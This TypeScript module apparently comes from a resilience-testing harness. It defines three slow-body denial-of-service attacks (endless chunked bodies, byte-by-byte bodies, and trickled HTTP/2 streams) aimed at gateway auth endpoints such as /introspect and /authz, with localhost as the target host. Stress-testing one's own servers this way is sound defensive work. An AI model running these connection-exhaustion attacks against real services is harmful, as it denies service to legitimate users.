import { type Attack, callHeaders } from "./attack.js";
import { frame, TYPE } from "./frames.js";
import type { RawConnection } from "./raw-connection.js";

/** Where gateways ask; the last reads no body. */
const DOORS = ["/introspect", "/revoke", "/tokenreview", "/authz"];
const FORM = "application/x-www-form-urlencoded";

/** A body for a door for gateways, which never ends. */
export const endlessDoorBodies: Attack = {
  name: "endless bodies at doors, HTTP/1.1",
  connections: 50,
  endsAfter: 7,
  protocol: "http/1.1",
  async run(connection) {
    await askDoor(connection);
    const chunk = `1000\r\n${"x".repeat(4096)}\r\n`;
    while (connection.going) {
      await connection.write(chunk);
      await connection.wait(10);
    }
  },
};

/** The same, byte by byte. */
export const slowDoorBodies: Attack = {
  name: "slow bodies at doors, HTTP/1.1",
  connections: 200,
  endsAfter: 12,
  protocol: "http/1.1",
  async run(connection) {
    await askDoor(connection);
    while (connection.going) {
      await connection.write("1\r\nt\r\n");
      await connection.wait(200);
    }
  },
};

/** Twenty of them on each connection of HTTP/2. */
export const slowDoorStreams: Attack = {
  name: "slow bodies at doors, HTTP/2",
  connections: 20,
  endsAfter: 12,
  async run(connection) {
    await connection.begin();
    const ids = Array.from({ length: 20 }, (_, i) => 2 * i + 1);
    const heads = ids.map((id, i) =>
      callHeaders(id, false, { ":path": doorOf(i), "content-type": FORM }),
    );
    await connection.write(Buffer.concat(heads), heads.length);
    const drops = ids.map((id) => frame(TYPE.data, 0, id, Buffer.from("t")));
    while (connection.going) {
      await connection.write(Buffer.concat(drops), drops.length);
      await connection.wait(200);
    }
  },
};

let asked = 0;

/** Begins a request at one door after the other. */
function askDoor(connection: RawConnection): Promise<void> {
  const lines = [`POST ${doorOf(asked++)} HTTP/1.1`, "Host: localhost", `Content-Type: ${FORM}`];
  return connection.write([...lines, "Transfer-Encoding: chunked", "", ""].join("\r\n"));
}

function doorOf(number: number): string {
  return DOORS[number % DOORS.length] as string;
}
